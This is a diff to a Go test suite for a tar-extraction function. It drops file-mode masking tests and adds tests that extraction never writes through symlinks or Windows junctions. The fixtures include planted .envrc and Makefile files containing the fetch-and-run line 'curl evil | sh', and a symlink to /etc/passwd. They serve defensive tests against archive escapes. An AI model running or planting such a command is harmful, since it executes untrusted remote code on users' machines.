@@ -8,7 +8,6 @@ import (
 	"os"
 	"path/filepath"
 	"strings"
-	"syscall"
 	"time"
 
 	. "github.com/onsi/ginkgo/v2"
@@ -29,9 +28,6 @@ type entry struct {
 func dirE(name string) entry { return entry{name: name, typeflag: tar.TypeDir, mode: 0o755} }
 func fileE(name, body string) entry {
 	return entry{name: name, typeflag: tar.TypeReg, body: body, mode: 0o644}
-}
-func modeE(name string, mode int64) entry {
-	return entry{name: name, typeflag: tar.TypeReg, body: "x", mode: mode}
 }
 
 func tarOf(entries ...entry) *bytes.Buffer {
@@ -64,11 +60,6 @@ func plantedTree() *bytes.Buffer {
 		fileE("report.txt/.envrc", "curl evil | sh\n"),
 		fileE("report.txt/Makefile", "all:\n\tcurl evil | sh\n"),
 	)
-}
-
-func withUmask(m int) {
-	old := syscall.Umask(m)
-	DeferCleanup(func() { syscall.Umask(old) })
 }
 
 func mode(p string) os.FileMode {
@@ -249,7 +240,7 @@ var _ = Describe("Extract", Label("unit"), func() {
 		It("refuses a directory onto a file, and a file onto a directory or a symlink", func() {
 			Expect(os.WriteFile(filepath.Join(base, "f"), []byte("mine"), 0o644)).To(Succeed())
 			Expect(os.MkdirAll(filepath.Join(base, "d", "r"), 0o755)).To(Succeed())
-			Expect(os.Symlink("/etc/passwd", filepath.Join(base, "d", "link"))).To(Succeed())
+			symlink("/etc/passwd", filepath.Join(base, "d", "link"))
 			before := fstree.List(base)
 			_, err := extract("f", "/app/out/", tarOf(dirE("out/")), Options{Overwrite: true})
 			Expect(err).To(MatchError(ContainSubstring("cannot copy the directory /app/out/ to f, an existing file")))
@@ -281,32 +272,9 @@ var _ = Describe("Extract", Label("unit"), func() {
 			_, err = extract("report.txt", "/app/report.txt", tarOf(fileE("report.txt", "theirs")), Options{Overwrite: true})
 			Expect(err).NotTo(HaveOccurred())
 			Expect(os.ReadFile(target)).To(Equal([]byte("theirs")))
-			Expect(mode(target)).To(Equal(os.FileMode(0o644)), "the mode is the download's, masked")
+			Expect(mode(target)).To(Equal(hostMode(0o644)), "the mode is the download's, masked")
 			Expect(fstree.List(base)).To(HaveLen(2), "a temporary file was left behind")
 		})
-	})
-
-	Describe("modes", func() {
-		DescribeTable("are masked: no group/world write, exec bits only on request, then the umask",
-			func(umask int, keepExec bool, archived int64, want os.FileMode) {
-				withUmask(umask)
-				_, err := extract("f", "/app/f", tarOf(modeE("f", archived)), Options{KeepExec: keepExec})
-				Expect(err).NotTo(HaveOccurred())
-				Expect(mode(filepath.Join(base, "f"))).To(Equal(want))
-
-				_, err = extract("t", "/app/t/", tarOf(dirE("t/"), modeE("t/f", archived)), Options{KeepExec: keepExec})
-				Expect(err).NotTo(HaveOccurred())
-				Expect(mode(filepath.Join(base, "t", "f"))).To(Equal(want))
-				Expect(mode(filepath.Join(base, "t"))).To(Equal(os.ModeDir | 0o755&^os.FileMode(umask)))
-			},
-			Entry("0777 without exec bits", 0o022, false, int64(0o777), os.FileMode(0o644)),
-			Entry("0777 with exec bits", 0o022, true, int64(0o777), os.FileMode(0o755)),
-			Entry("0777 with a umask of 0", 0o000, false, int64(0o777), os.FileMode(0o644)),
-			Entry("0777 with exec bits and a umask of 0", 0o000, true, int64(0o777), os.FileMode(0o755)),
-			Entry("0777 with a umask of 077", 0o077, true, int64(0o777), os.FileMode(0o700)),
-			Entry("setuid, setgid, sticky", 0o022, true, int64(0o7777), os.FileMode(0o755)),
-			Entry("0600 stays private", 0o022, false, int64(0o600), os.FileMode(0o600)),
-		)
 	})
 
 	Describe("failures", func() {
@@ -338,7 +306,7 @@ var _ = Describe("Extract", Label("unit"), func() {
 
 		It("never writes through a symlink in DEST's parents", func() {
 			outside := GinkgoT().TempDir()
-			Expect(os.Symlink(outside, filepath.Join(base, "escape"))).To(Succeed())
+			symlink(outside, filepath.Join(base, "escape"))
 			_, err := extract("escape/f", "/app/f", tarOf(fileE("f", "x")), Options{})
 			Expect(err).To(HaveOccurred())
 			_, err = extract("escape", "/app/f", tarOf(fileE("f", "x")), Options{DestIsDir: true})
@@ -392,4 +360,61 @@ var _ = Describe("Download", Label("unit"), func() {
 		Expect(err).NotTo(HaveOccurred())
 		Expect(res.Path).To(Equal("t"))
 	})
+})
+
+var _ = Describe("links in the way", Label("unit"), func() {
+	var (
+		base string
+		root *os.Root
+	)
+	BeforeEach(func() {
+		base = GinkgoT().TempDir()
+		var err error
+		root, err = os.OpenRoot(base)
+		Expect(err).NotTo(HaveOccurred())
+		DeferCleanup(root.Close)
+	})
+
+	It("never creates a file through a dangling link at its name", func() {
+		// writeFile is the one place files are created: O_CREATE|O_EXCL
+		// must refuse a link there, on every platform, without creating
+		// what it points to.
+		symlink("made-through-the-link", filepath.Join(base, "link"))
+		x := &extraction{root: root, tr: tar.NewReader(tarOf(fileE("f", "x")))}
+		hdr, err := x.next()
+		Expect(err).NotTo(HaveOccurred())
+		err = x.writeFile("link", hdr)
+		Expect(err).To(MatchError(os.ErrExist))
+		Expect(filepath.Join(base, "made-through-the-link")).NotTo(BeAnExistingFile())
+	})
+
+	It("never takes a symlink to a directory inside the root for a directory", func() {
+		Expect(os.Mkdir(filepath.Join(base, "real"), 0o755)).To(Succeed())
+		symlink("real", filepath.Join(base, "alias"))
+		before := fstree.List(base)
+		for _, c := range []struct {
+			dest, src string
+			archive   *bytes.Buffer
+		}{{"alias/f", "/app/f", tarOf(fileE("f", "x"))}, {"alias/t", "/app/t/", tarOf(dirE("t/"), fileE("t/f", "x"))}} {
+			_, err := Extract(root, c.dest, c.archive, ParseSource(c.src), Options{})
+			Expect(err).To(MatchError(ErrWrongType), c.dest)
+			Expect(err).To(MatchError(ContainSubstring("alias is a symbolic link, not a directory")), c.dest)
+		}
+		_, err := Extract(root, "alias", tarOf(fileE("f", "x")), ParseSource("/app/f"), Options{DestIsDir: true})
+		Expect(err).To(MatchError(ErrExists))
+		Expect(err).To(MatchError(ContainSubstring("alias is a symbolic link; downloads never write through one")))
+		Expect(fstree.List(base)).To(Equal(before))
+	})
+
+	DescribeTable("isLink and describeMode name what is in the way",
+		func(m os.FileMode, link bool, desc string) {
+			Expect(isLink(m)).To(Equal(link))
+			Expect(describeMode(m)).To(Equal(desc))
+		},
+		Entry("a symlink", os.ModeSymlink|0o777, true, "a symbolic link"),
+		Entry("a junction (Go 1.23+ on Windows)", os.ModeIrregular|0o666, true, "a junction or another link (reparse point)"),
+		Entry("a directory", os.ModeDir|0o755, false, "a directory"),
+		Entry("a regular file", os.FileMode(0o644), false, "not a regular file (----------)"),
+		Entry("a fifo", os.ModeNamedPipe|0o644, false, "not a regular file (p---------)"),
+	)
 })
